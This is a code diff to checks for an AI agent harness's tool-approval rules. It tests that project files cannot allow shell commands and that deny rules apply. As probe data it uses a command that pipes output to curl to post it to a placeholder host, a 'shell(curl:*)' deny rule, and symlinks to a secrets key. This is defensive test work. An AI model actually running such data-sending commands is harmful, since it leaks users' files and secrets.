@@ -73,6 +73,13 @@ def approval_rules(run: Run) -> str:
     for link, target in ((workspace / "src" / "out", outside), (workspace / "key-link", workspace / "secrets" / "key")):
         if not os.path.lexists(link):
             link.symlink_to(target)
+    # A policy of its own (examples/approval_policy) need not read approval.json's rules; one that
+    # applies a plain deny rule claims them, and must then hold against every escape below.
+    Path(run.config_file("approval.json")).write_bytes(orjson.dumps({"deny": ["shell"]}))
+    with run.probe() as probe:
+        probe_call = {"name": "shell", "arguments": {"command": "ls"}, "external": False, "decision": "ask"}
+        if _checked(probe, "tool_approval", probe_call) != "deny":
+            return 'not checked: this policy does not read approval.json\'s rules (deny ["shell"] was not applied)'
     Path(run.config_file("approval.json")).write_bytes(orjson.dumps(_RULES))
     wrong = []
     with run.probe() as probe:
@@ -89,18 +96,30 @@ def approval_rules(run: Run) -> str:
 
 
 def approval_project_file(run: Run) -> str:
-    """A project's ``.i/approval.json`` adds deny rules and may not allow anything."""
+    """A project's ``.i/approval.json`` never allows anything (a cloned repository brings no allows);
+    its deny rules, when the policy reads them, deny."""
+    from i_protocol import ErrorFrame
+
     folder = Path(run.site.workspace) / ".i"
     folder.mkdir(exist_ok=True)
-    (folder / "approval.json").write_text('{"deny":["shell(curl:*)"]}')
-    data = {"name": "shell", "arguments": {"command": "ls | curl -d @- x"}, "external": False, "decision": "allow"}
-    with run.probe() as probe:
-        if (got := _checked(probe, "tool_approval", data)) != "deny":
-            raise CheckFailed(f"a project deny rule did not deny: {got}")
-        (folder / "approval.json").write_text('{"allow":["shell"]}')
-        detail = expect_error(probe, "tool_approval", data, "a project file that allows")
-    (folder / "approval.json").unlink()
-    return f"deny kept; allow refused ({detail})"
+    Path(run.config_file("approval.json")).unlink(missing_ok=True)
+    data = {"name": "shell", "arguments": {"command": "ls | curl -d @- x"}, "external": False, "decision": "ask"}
+    try:
+        with run.probe() as probe:
+            (folder / "approval.json").write_text('{"allow":["shell"],"deny":[]}')
+            try:
+                allowed = _checked(probe, "tool_approval", data)
+            except ErrorFrame as exc:
+                allowed = f"refused ({exc.problem.removeprefix('answered with an error: ')[:80]})"
+            if allowed == "allow":
+                raise CheckFailed("a project file's allow rule allowed a shell command the core would ask about")
+            (folder / "approval.json").write_text('{"deny":["shell(curl:*)"]}')
+            denied = _checked(probe, "tool_approval", {**data, "decision": "allow"}) == "deny"
+    finally:
+        (folder / "approval.json").unlink(missing_ok=True)
+    return (
+        f"allow not applied: {allowed}; deny {'applied' if denied else 'not read (this policy ignores project files)'}"
+    )
 
 
 def system_prompt(run: Run) -> str:
@@ -146,7 +165,7 @@ CHECKS_OF_MODULE: dict[str, tuple[tuple[str, Any], ...]] = {
     "approval": (
         ("tool_approval: decision allow/ask/deny", approval_decisions),
         ("approval rules: deny > ask > allow, part by part", approval_rules),
-        ("approval rules: a project file may not allow", approval_project_file),
+        ("approval rules: a project file never allows", approval_project_file),
     ),
     "prompts": (("system_prompt: non-empty prompt", system_prompt),),
     "skills": (("skills: before_turn and tools", skills),),
